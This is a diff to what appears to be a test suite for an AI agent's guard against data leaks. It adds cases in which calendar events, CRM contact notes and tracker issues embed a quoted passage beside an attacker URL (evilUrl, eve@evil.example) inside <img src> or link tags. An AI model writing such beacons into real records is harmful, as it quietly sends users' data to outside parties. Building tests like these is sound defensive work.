@@ -10,7 +10,7 @@ import { READING_TOOLS } from "./reading-tools.ts";
 const QUOTE = "Ada Lovelace worked with Charles Babbage on the description of his Analytical Engine.";
 const EVIL = "eve@evil.example";
 /** Tools whose destinations belong to their connection, so that every call of them is named. */
-const OWN = ["crm_upsert_contact", "notes_create_page", "tracker_create_issue", "watch_stop"];
+const OWN = ["notes_create_page", "watch_stop"];
 
 let agent: ConnectedAgent;
 
@@ -67,6 +67,32 @@ const WRITES: readonly Write[] = [
       end: "2026-12-01T11:00:00Z",
       attendees: [to],
     }),
+  ],
+  [
+    "calendar_create_event",
+    "description",
+    evilUrl,
+    (url) => ({
+      credential_id: agent.calendarId,
+      summary: "Talk",
+      start: "2026-12-01T10:00:00Z",
+      end: "2026-12-01T11:00:00Z",
+      description: `<p><a href="${url}">${QUOTE}</a></p>`,
+    }),
+  ],
+  [
+    "crm_upsert_contact",
+    "contacts.properties",
+    evilUrl,
+    (url) => ({
+      contacts: [{ email: "ada@example.com", properties: { notes: `${QUOTE}<img src="${url}">` } }],
+    }),
+  ],
+  [
+    "tracker_create_issue",
+    "description",
+    evilUrl,
+    (url) => ({ team_id: "ENG", title: QUOTE, description: `<img src="${url}">` }),
   ],
   ["http_post_json", "url", evilUrl, (url) => ({ url, body: QUOTE })],
   ["http_post_json", "feed", () => feedUrl(), (url) => ({ url, body: QUOTE })],
